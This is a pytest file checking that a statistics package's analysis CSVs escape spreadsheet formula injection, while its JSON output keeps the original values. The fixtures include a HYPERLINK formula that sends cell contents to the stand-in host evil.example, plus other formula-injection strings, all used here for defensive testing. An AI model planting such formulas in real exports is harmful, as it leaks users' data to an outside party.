"""`api.analyse` writes its tidy CSVs spreadsheet-safe; results.json keeps the originals."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from trialkit import api
from trialkit._core.spreadsheet import FORMULA_STARTS

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


class _Row:
    def __init__(self, **values: Any) -> None:
        self.values = values

    def model_dump(self, exclude: set[str] | None = None) -> dict[str, Any]:
        return dict(self.values)


def _results() -> SimpleNamespace:
    rows = [
        _Row(outcome="loneliness", term=LEAK, estimate=-0.31, subgroup="@SUM(1)"),
        _Row(outcome="+SUM(1)", term="-2+3", estimate=-1.18, subgroup="-5"),
    ]
    document = {"estimates": [r.values for r in rows]}
    return SimpleNamespace(
        estimates=rows,
        bayesian=SimpleNamespace(posteriors=rows),
        indices=rows,
        subgroups=rows,
        few_clusters=rows,
        deviations=(),
        to_json=lambda: json.dumps(document),
    )


@pytest.mark.parametrize("name", ["estimates", "bayesian", "indices", "subgroups", "few_clusters"])
def test_analyse_csvs_hold_no_live_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    import trialkit.analyse

    monkeypatch.setattr(api, "validate_files", lambda *a, **k: None)
    monkeypatch.setattr(trialkit.analyse, "analyse", lambda *a, **k: _results())
    api.analyse(
        "council_discretionary_budget", tmp_path / "allocation.csv", [], tmp_path / "results"
    )
    with (tmp_path / "results" / f"{name}.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["term"] == "'" + LEAK and rows[0]["subgroup"] == "'@SUM(1)"
    assert rows[1]["outcome"] == "'+SUM(1)" and rows[1]["term"] == "'-2+3"
    assert [r["estimate"] for r in rows] == ["-0.31", "-1.18"] and rows[1]["subgroup"] == "-5"
    cells = [c for r in rows for c in r.values()]
    assert all(c[:1] not in FORMULA_STARTS or c in {"-0.31", "-1.18", "-5"} for c in cells)
    saved = json.loads((tmp_path / "results" / "results.json").read_text())
    assert saved["estimates"][0]["term"] == LEAK  # JSON keeps the original value
